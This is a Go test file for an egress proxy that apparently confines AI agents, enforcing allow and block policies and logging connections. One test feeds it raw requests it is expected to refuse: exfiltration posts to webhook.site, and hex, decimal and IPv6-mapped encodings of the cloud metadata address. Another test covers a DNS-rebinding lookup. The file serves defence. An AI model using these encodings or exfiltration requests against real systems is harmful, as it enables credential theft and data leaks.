package sandbox

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agentairlock/airlock/audit"
	"github.com/agentairlock/airlock/policy"
)

// egressRecords collects what the proxy records.
type egressRecords struct {
	mu   sync.Mutex
	list []audit.Record
}

func (r *egressRecords) add(rec audit.Record) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.list = append(r.list, rec)
	return nil
}

// raw is every record in the order written.
func (r *egressRecords) raw() []audit.Record {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]audit.Record(nil), r.list...)
}

// all is one record per connection: the end of one that went ahead, the
// decision of one that was refused (it has no end). Each end must follow
// a decision for the same connection that let it go ahead.
func (r *egressRecords) all() []audit.Record {
	var out []audit.Record
	ahead := map[string]int{}
	for _, rec := range r.raw() {
		k := rec.Tool + " " + rec.Target
		switch {
		case rec.Event == egressEventEnd:
			if ahead[k] == 0 {
				rec.Detail += " MISSING-DECISION"
			}
			ahead[k]--
			out = append(out, rec)
		case rec.Event == egressEventDecision && !strings.Contains(rec.Detail, " status="):
			ahead[k]++
		default:
			out = append(out, rec)
		}
	}
	return out
}

func (r *egressRecords) find(t *testing.T, target, method string) audit.Record {
	t.Helper()
	for _, rec := range r.all() {
		if rec.Target == target && rec.Tool == method {
			return rec
		}
	}
	t.Fatalf("no %s record for %s; have %+v", method, target, r.all())
	return audit.Record{}
}

func egressPolicy(t testing.TB) *policy.Policy {
	t.Helper()
	dir := t.TempDir()
	p, err := policy.LoadProfile("default", policy.Vars{Workspace: dir, Home: dir, Tmp: dir, User: "dev", AirlockHome: dir})
	if err != nil {
		t.Fatalf("load default profile: %v", err)
	}
	return p
}

// noLookup fails the test if the proxy resolves anything: a refused name
// must be refused before it is resolved.
func egressNoLookup(t *testing.T) func(context.Context, string) ([]netip.Addr, error) {
	return func(_ context.Context, host string) ([]netip.Addr, error) {
		t.Errorf("the proxy resolved %q", host)
		return nil, errors.New("no lookups in this test")
	}
}

func startEgress(t *testing.T, opt egressOptions) (*egress, *egressRecords) {
	t.Helper()
	recs := &egressRecords{}
	if opt.Record == nil {
		opt.Record = recs.add
	}
	e, err := StartEgress(opt)
	if err != nil {
		t.Fatalf("StartEgress: %v", err)
	}
	t.Cleanup(func() { _ = e.Close() })
	return e, recs
}

func egressClient(e *egress, tlsConf *tls.Config) *http.Client {
	u := &url.URL{Scheme: "http", Host: e.Addr(), User: url.UserPassword("agent", "secret")}
	return &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(u), TLSClientConfig: tlsConf}}
}

func egressGet(t *testing.T, c *http.Client, u string) (int, string, http.Header) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatalf("GET %s through the proxy: %v", u, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("read body of %s: %v", u, err)
	}
	return resp.StatusCode, string(b), resp.Header
}

// rawProxy sends one raw request to the proxy and reads its answer.
func egressRaw(t *testing.T, addr, req string) (*http.Response, string) {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatalf("dial proxy: %v", err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, req); err != nil {
		t.Fatalf("write %q: %v", req, err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatalf("read the proxy's answer to %q: %v", req, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

func egressDetailInt(t *testing.T, rec audit.Record, key string) int64 {
	t.Helper()
	for _, f := range strings.Fields(rec.Detail) {
		if v, ok := strings.CutPrefix(f, key+"="); ok {
			var n int64
			if _, err := fmt.Sscan(v, &n); err != nil {
				t.Fatalf("detail %s=%q: %v", key, v, err)
			}
			return n
		}
	}
	t.Fatalf("record detail %q has no %s", rec.Detail, key)
	return 0
}

func TestEgressTunnelsAllowedHTTPSHostAndRecordsBytes(t *testing.T) {
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "hello over tls")
	}))
	defer srv.Close()
	e, recs := startEgress(t, egressOptions{Policy: egressPolicy(t), Lookup: egressNoLookup(t)})
	c := egressClient(e, srv.Client().Transport.(*http.Transport).TLSClientConfig)
	code, body, _ := egressGet(t, c, srv.URL+"/x")
	if code != 200 || body != "hello over tls" {
		t.Fatalf("through CONNECT got %d %q, want 200 and the server's body", code, body)
	}
	c.CloseIdleConnections()
	if err := e.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	rec := recs.find(t, strings.TrimPrefix(srv.URL, "https://"), "CONNECT")
	if rec.Event != "egress_end" || rec.Effective != "allow" || rec.Decision != "allow" || strings.Contains(rec.Detail, "MISSING") {
		t.Errorf("record %+v: want the end of an egress allow", rec)
	}
	// the decision, then the end
	if raw := recs.raw(); len(raw) != 2 || raw[0].Event != "egress" || raw[0].Effective != "allow" || strings.Contains(raw[0].Detail, "bytes_") {
		t.Errorf("records %+v: want the decision (no byte counts) before the end", raw)
	}
	if in, out := egressDetailInt(t, rec, "bytes_in"), egressDetailInt(t, rec, "bytes_out"); in < 100 || out < 100 {
		t.Errorf("record counted bytes_in=%d bytes_out=%d; a TLS egressExchange moves more", in, out)
	}
	if err := e.RecordErr(); err != nil {
		t.Errorf("RecordErr: %v", err)
	}
}

func TestEgressForwardsPlainHTTPWithoutProxyHeaders(t *testing.T) {
	got := make(chan http.Header, 1)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got <- r.Header.Clone()
		w.Header().Set("X-Upstream", "yes")
		_, _ = io.WriteString(w, "plain "+r.URL.RequestURI())
	}))
	defer srv.Close()
	e, recs := startEgress(t, egressOptions{Policy: egressPolicy(t), Lookup: egressNoLookup(t)})
	c := egressClient(e, nil)
	req, _ := http.NewRequest("GET", srv.URL+"/a?b=c", nil)
	req.Header.Set("Connection", "X-Secret-Hop")
	req.Header.Set("X-Secret-Hop", "must not pass")
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("GET through the proxy: %v", err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || string(b) != "plain /a?b=c" || resp.Header.Get("X-Upstream") != "yes" {
		t.Fatalf("got %d %q %v, want the upstream's 200, body and header", resp.StatusCode, b, resp.Header)
	}
	h := <-got
	for _, k := range []string{"Proxy-Authorization", "Proxy-Connection", "X-Secret-Hop"} {
		if h.Get(k) != "" {
			t.Errorf("upstream received %s: %q", k, h.Get(k))
		}
	}
	c.CloseIdleConnections()
	_ = e.Close()
	rec := recs.find(t, strings.TrimPrefix(srv.URL, "http://"), "GET")
	if rec.Effective != "allow" || egressDetailInt(t, rec, "bytes_in") == 0 || egressDetailInt(t, rec, "bytes_out") == 0 {
		t.Errorf("record %+v: want an allow with bytes both ways", rec)
	}
}

func TestEgressRefusesForbiddenHostsWithoutDialling(t *testing.T) {
	e, recs := startEgress(t, egressOptions{Policy: egressPolicy(t), Lookup: egressNoLookup(t)})
	cases := []struct {
		req, target, rule string
	}{
		{"CONNECT webhook.site:443 HTTP/1.1\r\nHost: webhook.site:443\r\n\r\n", "webhook.site:443", "net.exfil-collector"},
		{"CONNECT x.webhook.site.:443 HTTP/1.1\r\n\r\n", "x.webhook.site:443", "net.exfil-collector"},
		{"CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n", "169.254.169.254:80", "net.cloud-metadata"},
		{"CONNECT 0xA9FEA9FE:80 HTTP/1.1\r\n\r\n", "169.254.169.254:80", "net.cloud-metadata"},
		{"CONNECT 2852039166:443 HTTP/1.1\r\n\r\n", "169.254.169.254:443", "net.cloud-metadata"},
		{"CONNECT [::ffff:a9fe:a9fe]:443 HTTP/1.1\r\n\r\n", "169.254.169.254:443", "net.cloud-metadata"},
		{"CONNECT metadata.google.internal:80 HTTP/1.1\r\n\r\n", "metadata.google.internal:80", "net.cloud-metadata"},
		{"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n", "169.254.169.254:80", "net.cloud-metadata"},
		{"POST http://webhook.site/abc HTTP/1.1\r\nHost: webhook.site\r\nContent-Length: 6\r\n\r\nsecret", "webhook.site:80", "net.exfil-collector"},
	}
	for _, tc := range cases {
		resp, body := egressRaw(t, e.Addr(), tc.req)
		if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Rule") != tc.rule {
			t.Errorf("%q: got %d rule %q, want 403 %s", tc.req, resp.StatusCode, resp.Header.Get("X-Airlock-Rule"), tc.rule)
		}
		host, _, _ := net.SplitHostPort(tc.target)
		if want := "Airlock blocked this connection: " + host + ": " + tc.rule + ": "; !strings.HasPrefix(body, want) {
			t.Errorf("%q: body %q, want it to start %q", tc.req, body, want)
		}
	}
	_ = e.Close()
	for _, tc := range cases {
		method, _, _ := strings.Cut(tc.req, " ")
		rec := recs.find(t, tc.target, method)
		if rec.Effective != "block" || rec.Rule != tc.rule || strings.Contains(rec.Detail, "dialed=") {
			t.Errorf("record %+v: want a block by %s with nothing dialled", rec, tc.rule)
		}
	}
}

func TestEgressDecidesEveryResolvedAddress(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "via "+r.Host)
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	lookup := func(_ context.Context, host string) ([]netip.Addr, error) {
		switch host {
		case "good.test":
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		case "rebind.test": // a public-looking name that answers with the metadata IP
			return []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("::ffff:169.254.169.254")}, nil
		}
		return nil, errors.New("no such host")
	}
	e, recs := startEgress(t, egressOptions{Policy: egressPolicy(t), Lookup: lookup})
	c := egressClient(e, nil)
	if code, body, _ := egressGet(t, c, "http://good.test:"+port+"/"); code != 200 || body != "via good.test:"+port {
		t.Errorf("good.test: got %d %q, want the local server reached by its resolved IP", code, body)
	}
	code, body, h := egressGet(t, c, "http://rebind.test:"+port+"/")
	if code != 403 || h.Get("X-Airlock-Rule") != "net.cloud-metadata" || !strings.Contains(body, "rebind.test resolved to 169.254.169.254") {
		t.Errorf("rebind.test: got %d %q %q, want 403 naming the resolved metadata IP", code, h.Get("X-Airlock-Rule"), body)
	}
	if code, _, _ := egressGet(t, c, "http://nxdomain.test/"); code != 502 {
		t.Errorf("unresolvable host: got %d, want 502", code)
	}
	c.CloseIdleConnections()
	_ = e.Close()
	if rec := recs.find(t, "good.test:"+port, "GET"); !strings.Contains(rec.Detail, "dialed=127.0.0.1:"+port) {
		t.Errorf("good.test record %q: want the decided IP dialled", rec.Detail)
	}
}

func TestEgressEnvPointsEverythingAtTheProxy(t *testing.T) {
	e, _ := startEgress(t, egressOptions{Policy: egressPolicy(t)})
	env := strings.Join(e.Env(), "\n") + "\n"
	for _, k := range []string{"HTTPS_PROXY", "HTTP_PROXY", "ALL_PROXY", "https_proxy", "http_proxy", "all_proxy"} {
		if !strings.Contains(env, k+"=http://"+e.Addr()+"\n") {
			t.Errorf("Env lacks %s=http://%s:\n%s", k, e.Addr(), env)
		}
	}
	if !strings.Contains(env, "\nNO_PROXY=\n") || !strings.Contains(env, "\nno_proxy=\n") {
		t.Errorf("Env must clear NO_PROXY and no_proxy:\n%s", env)
	}
}

func TestStartEgressRefusesWhatItCannotDoSafely(t *testing.T) {
	allow := func(string, int, string) (bool, string, string) { return true, "", "" }
	for name, opt := range map[string]egressOptions{
		"no decider":       {},
		"public listen":    {Decide: allow, Listen: "0.0.0.0:0"},
		"name listen":      {Decide: allow, Listen: "localhost:0"},
		"bad cap host":     {Decide: allow, MaxBytesOut: map[string]int64{"a b": 1}},
		"negative cap":     {Decide: allow, MaxBytesOut: map[string]int64{"example.com": -1}},
		"unparsable addrs": {Decide: allow, Listen: "127.0.0.1"},
	} {
		if e, err := StartEgress(opt); err == nil {
			_ = e.Close()
			t.Errorf("%s: StartEgress succeeded", name)
		}
	}
}

func TestEgressPanickingDeciderRefuses(t *testing.T) {
	e, recs := startEgress(t, egressOptions{Decide: func(string, int, string) (bool, string, string) { panic("boom") }})
	resp, _ := egressRaw(t, e.Addr(), "CONNECT example.com:443 HTTP/1.1\r\n\r\n")
	if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Rule") != egressRuleInternal {
		t.Errorf("got %d %q, want 403 %s", resp.StatusCode, resp.Header.Get("X-Airlock-Rule"), egressRuleInternal)
	}
	_ = e.Close()
	if rec := recs.find(t, "example.com:443", "CONNECT"); rec.Effective != "block" {
		t.Errorf("record %+v: want block", rec)
	}
}

func TestEgressPolicyAllowlistReachesTheResolvedAddress(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, "allowed")
	}))
	defer srv.Close()
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
	dir := t.TempDir()
	file := dir + "/policy.yaml"
	yaml := `mode: enforce
default: block
ask_fallback: block
rules:
  - id: private-nets
    host: ["10.0.0.0/8"]
    action: block
    reason: no private networks
  - id: api-allowed
    tool: WebFetch
    host: ["api.test", "inner.test"]
    action: allow
    reason: the one API this agent needs
  - id: no-other-fetch
    tool: WebFetch
    action: block
    reason: fetches go to the API only
`
	if err := os.WriteFile(file, []byte(yaml), 0o600); err != nil {
		t.Fatal(err)
	}
	p, err := policy.LoadFile(file, policy.Vars{Workspace: dir, Home: dir, Tmp: dir, User: "dev", AirlockHome: dir})
	if err != nil {
		t.Fatalf("load %s: %v", file, err)
	}
	lookup := func(_ context.Context, host string) ([]netip.Addr, error) {
		switch host {
		case "api.test", "other.test":
			return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
		case "inner.test":
			return []netip.Addr{netip.MustParseAddr("10.1.2.3")}, nil
		}
		return nil, errors.New("no such host")
	}
	e, _ := startEgress(t, egressOptions{Policy: p, Lookup: lookup})
	c := egressClient(e, nil)
	for _, tc := range []struct {
		host, rule string
		code       int
	}{
		{"api.test", "", 200},                 // allowed by name; its IP hits only the catch-all
		{"other.test", "no-other-fetch", 403}, // the catch-all refuses the name
		{"inner.test", "private-nets", 403},   // allowed name, refused address
		{"127.0.0.1", "no-other-fetch", 403},  // an IP is a destination like any other
	} {
		code, body, h := egressGet(t, c, "http://"+tc.host+":"+port+"/")
		if code != tc.code || h.Get("X-Airlock-Rule") != tc.rule {
			t.Errorf("%s: got %d %q %q, want %d %q", tc.host, code, h.Get("X-Airlock-Rule"), body, tc.code, tc.rule)
		}
	}
}

func TestEgressRefusesCleartextToTheInternet(t *testing.T) {
	lookup := func(_ context.Context, host string) ([]netip.Addr, error) {
		if host == "public.test" {
			return []netip.Addr{netip.MustParseAddr("93.184.216.34")}, nil
		}
		return nil, errors.New("no such host")
	}
	e, recs := startEgress(t, egressOptions{Policy: egressPolicy(t), Lookup: lookup})
	for _, tc := range []struct{ req, target string }{
		{"GET http://public.test/ HTTP/1.1\r\nHost: public.test\r\n\r\n", "public.test:80"},
		{"GET http://8.8.8.8/ HTTP/1.1\r\nHost: 8.8.8.8\r\n\r\n", "8.8.8.8:80"},
		{"CONNECT public.test:80 HTTP/1.1\r\n\r\n", "public.test:80"},
	} {
		resp, body := egressRaw(t, e.Addr(), tc.req)
		if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Rule") != egressRuleCleartext {
			t.Errorf("%q: got %d %q, want 403 %s", tc.req, resp.StatusCode, body, egressRuleCleartext)
		}
	}
	_ = e.Close()
	for _, rec := range recs.all() {
		if rec.Rule != egressRuleCleartext || strings.Contains(rec.Detail, "dialed=") {
			t.Errorf("record %+v: want a cleartext refusal with nothing dialled", rec)
		}
	}
}

func TestEgressAppliesThePolicysOwnCleartextRule(t *testing.T) {
	dir := t.TempDir()
	p, err := policy.LoadProfile("paranoid", policy.Vars{Workspace: dir, Home: dir, Tmp: dir, User: "dev", AirlockHome: dir})
	if err != nil {
		t.Fatal(err)
	}
	// AllowCleartext lifts only the proxy's own refusal, never the policy's.
	e, _ := startEgress(t, egressOptions{Policy: p, Lookup: egressNoLookup(t), AllowCleartext: true})
	resp, body := egressRaw(t, e.Addr(), "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n")
	if resp.StatusCode != 403 || resp.Header.Get("X-Airlock-Rule") != "cleartext-fetch" {
		t.Errorf("paranoid, http://example.com: got %d %q, want 403 cleartext-fetch", resp.StatusCode, body)
	}
}
